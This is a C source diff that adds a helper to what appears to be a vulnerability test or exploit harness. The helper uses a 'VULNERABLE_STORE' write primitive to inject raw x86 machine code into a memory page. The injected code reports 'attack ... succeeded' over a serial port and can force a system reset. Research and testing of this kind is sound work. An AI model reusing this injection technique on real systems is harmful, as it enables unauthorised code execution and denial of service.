@@ -616,6 +616,26 @@ u64 prepare_start(void)
 	return page;
 }
 
+u64 prepare_start_saying(const char *name, const char *detail, int reset)
+{
+	u64 page = prepare_start();
+	char says[200];
+	u8 length = snprintf(says, sizeof(says), "\r\nattack: name=%s result=succeeded detail=%s\r\n", name, detail);
+	// mov si, 100h; mov cx, length; mov dx, 3f8h; 1: cs lodsb; out dx, al; loop 1b
+	const u8 say_it[] = { 0xbe, 0x00, 0x01, 0xb9, length, 0, 0xba, 0xf8, 0x03, 0x2e, 0xac, 0xee, 0xe2, 0xfb };
+	// mov dx, cf9h; mov al, 6; out dx, al; hlt
+	const u8 reset_it[] = { 0xba, 0xf9, 0x0c, 0xb0, 0x06, 0xee, 0xf4 };
+	unsigned at = 0;
+
+	for (unsigned i = 0; i < sizeof(say_it); i++)
+		operate(VULNERABLE_STORE, page + at++, say_it[i], 1);
+	for (unsigned i = 0; i < (reset ? sizeof(reset_it) : START_LENGTH); i++)
+		operate(VULNERABLE_STORE, page + at++, reset ? reset_it[i] : START[i], 1);
+	for (unsigned i = 0; i < length; i++)
+		operate(VULNERABLE_STORE, page + 0x100 + i, says[i], 1);
+	return page;
+}
+
 int seen(u64 page)
 {
 	for (int i = 0; i < 50; i++) {
